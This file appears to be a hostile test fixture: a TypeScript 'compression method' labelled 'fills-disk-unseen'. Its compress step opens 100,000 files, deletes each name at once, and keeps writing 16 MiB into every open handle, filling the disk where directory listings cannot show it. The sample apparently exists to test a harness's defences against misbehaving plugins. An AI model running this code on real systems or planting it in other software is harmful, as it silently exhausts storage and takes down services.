import { openSync, unlinkSync, writeSync } from 'node:fs';
import { hostileMethod } from './shared/hostile-method.ts';

export default hostileMethod({
  id: 'fills-disk-unseen',
  description: 'Writes into files whose names it has removed.',
  compress(model) {
    const block = Buffer.alloc(2 ** 20, 1);
    for (let i = 0; i < 1e5; i++) {
      const file = openSync(`block-${i}`, 'w');
      unlinkSync(`block-${i}`);
      for (let j = 0; j < 16; j++) writeSync(file, block);
    }
    return model;
  },
});
